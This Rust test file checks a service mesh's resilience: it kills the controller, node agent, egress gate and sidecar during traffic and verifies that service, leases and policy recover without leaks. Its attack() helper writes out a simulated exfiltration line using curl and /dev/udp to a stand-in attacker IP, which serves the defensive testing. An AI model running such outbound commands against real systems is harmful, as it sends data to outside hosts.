//! Each part is killed with SIGKILL during traffic, in turn. Leases, policy and service come
//! back, and nothing leaks meanwhile.

use std::time::Duration;

use anyhow::Result;
use turnpike_rig::{Options, World, cluster, traffic, traffic::Traffic, wait_for};

const SOON: Duration = Duration::from_secs(10);
const WEB: &str = "http://10.96.0.20/";

/// nginx and a client in the mesh, and a pod that an egress policy selects.
fn world(name: &str) -> Result<World> {
    let mut world = World::up(Options::test(name), &|_| ())?;
    world.furnish()?;
    world
        .directory
        .write("egress", include_str!("../rig/cluster/egress.yaml"))?;
    world.start_pod(&cluster::nginx("web-1", "web", "node-a", 0), true)?;
    world.start_pod(&cluster::client("shop", "client", "client", "node-b"), true)?;
    world.start_pod(
        &cluster::client("legacy", "batch", "batch", "node-b"),
        false,
    )?;
    let served = wait_for(SOON, || {
        status(&world, "shop", "client", &[WEB]).filter(|s| s == "200")
    });
    assert!(
        served.is_some(),
        "the mesh serves before anything is killed"
    );
    Ok(world)
}

fn status(world: &World, namespace: &str, pod: &str, arguments: &[&str]) -> Option<String> {
    let mut line = vec![
        "curl",
        "-s",
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        "--max-time",
        "2",
        "-k",
    ];
    line.extend(arguments);
    Some(world.exec(namespace, pod, &line).ok()?.out)
}

fn payments(world: &World) -> Option<String> {
    status(world, "legacy", "batch", &["https://api.payments.example/"])
}

/// Whether anything reached the attacker; in these worlds only the selected pod tries.
fn leaked(world: &World) -> bool {
    let log = std::fs::read_to_string(&world.ready.internet_log).unwrap_or_default();
    log.lines().any(|line| line.contains("203.0.113.66"))
}

fn attack(world: &World) {
    let line = "curl -sk --max-time 1 https://203.0.113.66/x; echo x > /dev/udp/203.0.113.66/443";
    let _ = world.exec("legacy", "batch", &["bash", "-c", line]);
}

#[test]
fn the_mesh_serves_without_its_controller() {
    let mut world = world("controller").unwrap();
    let traffic = Traffic::start(world.pod("shop", "client").unwrap(), WEB, "web.shop");
    std::thread::sleep(Duration::from_millis(500));
    world.controller.kill().unwrap();
    std::thread::sleep(Duration::from_secs(2));
    world.controller.restart().unwrap();
    let address = "10.0.0.10:15014".parse().unwrap();
    world
        .controller
        .ready(address, "/healthz/ready", SOON)
        .unwrap();
    let samples = traffic.stop().unwrap();
    assert_eq!(
        traffic::failed(&samples),
        0,
        "of {} requests",
        samples.len()
    );
    assert!(samples.len() > 20);

    // Policy flows again, from files that it had to read anew.
    world
        .directory
        .write("strict", include_str!("../rig/cluster/strict.yaml"))
        .unwrap();
    let pod = format!(
        "http://{}:8080/",
        world.pod("shop", "web-1").unwrap().address
    );
    let refused = wait_for(SOON, || {
        status(&world, "legacy", "batch", &[&pod]).filter(|s| s != "200")
    });
    assert!(
        refused.is_some(),
        "STRICT did not take effect after the restart"
    );
}

#[test]
fn leases_survive_the_agent() {
    let mut world = world("agent").unwrap();
    let before = world.pod("shop", "client").unwrap().address;
    let traffic = Traffic::start(world.pod("shop", "client").unwrap(), WEB, "web.shop");
    world.node_mut("node-b").unwrap().agent.kill().unwrap();
    attack(&world);
    std::thread::sleep(Duration::from_secs(1));
    let agent = &mut world.node_mut("node-b").unwrap().agent;
    agent.restart().unwrap();
    agent
        .ready("127.0.0.1:61678".parse().unwrap(), "/healthz/ready", SOON)
        .unwrap();
    let samples = traffic.stop().unwrap();
    assert_eq!(
        traffic::failed(&samples),
        0,
        "of {} requests",
        samples.len()
    );
    assert!(!leaked(&world), "something left while the agent was away");

    let next = world
        .start_pod(&cluster::client("shop", "late", "client", "node-b"), true)
        .unwrap()
        .address;
    assert_ne!(next, before, "an address in use was handed out again");
    world.delete_pod("shop", "client").unwrap();
    let served = wait_for(SOON, || {
        status(&world, "shop", "late", &[WEB]).filter(|s| s == "200")
    });
    assert!(served.is_some(), "a pod born after the restart is served");
}

#[test]
fn no_gate_no_door() {
    let mut world = world("gate").unwrap();
    let reached = wait_for(SOON, || payments(&world).filter(|status| status == "200"));
    assert!(reached.is_some(), "the allowed name is reached before");
    world.node_mut("node-b").unwrap().gate.kill().unwrap();
    attack(&world);
    assert_ne!(
        payments(&world).as_deref(),
        Some("200"),
        "it left without a gate"
    );
    let gate = &mut world.node_mut("node-b").unwrap().gate;
    gate.restart().unwrap();
    gate.ready("127.0.0.1:15022".parse().unwrap(), "/healthz", SOON)
        .unwrap();
    let reached = wait_for(SOON, || payments(&world).filter(|status| status == "200"));
    assert!(reached.is_some(), "the allowed name is reached again");
    attack(&world);
    assert!(!leaked(&world), "something left while the gate was away");
    let verified = world.ask_audit("/v1/verify").unwrap();
    let reports: serde_json::Value = serde_json::from_str(&verified.body).unwrap();
    for report in reports.as_array().unwrap() {
        assert_eq!(report["problems"], serde_json::json!([]), "{report}");
    }
}

#[test]
fn a_dead_sidecar_blocks_and_never_bypasses() {
    let mut world = world("sidecar").unwrap();
    let pod = world.pod_mut("shop", "web-1").unwrap();
    let direct = format!("http://{}:8080/", pod.address);
    let mut sidecar = pod.sidecar.take().unwrap();
    sidecar.kill().unwrap();
    assert_ne!(
        status(&world, "legacy", "batch", &[&direct]).as_deref(),
        Some("200")
    );
    assert_ne!(
        status(&world, "shop", "client", &[WEB]).as_deref(),
        Some("200")
    );
    sidecar.restart().unwrap();
    sidecar
        .ready("127.0.0.1:15021".parse().unwrap(), "/healthz/ready", SOON)
        .unwrap();
    world.pod_mut("shop", "web-1").unwrap().sidecar = Some(sidecar);
    let served = wait_for(SOON, || {
        status(&world, "shop", "client", &[WEB]).filter(|s| s == "200")
    });
    assert!(served.is_some(), "it serves again");
}
